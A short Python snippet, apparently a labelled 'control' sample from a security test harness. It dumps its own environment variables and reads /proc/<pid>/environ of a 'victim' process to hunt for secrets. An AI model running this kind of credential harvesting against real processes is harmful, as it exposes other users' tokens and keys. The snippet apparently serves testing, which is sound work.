"""Looks for secrets in environment variables, its own and those of its parents."""
# control

import os
print(dict(os.environ))
for pid in ("self", str(TARGET["victim"])):
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
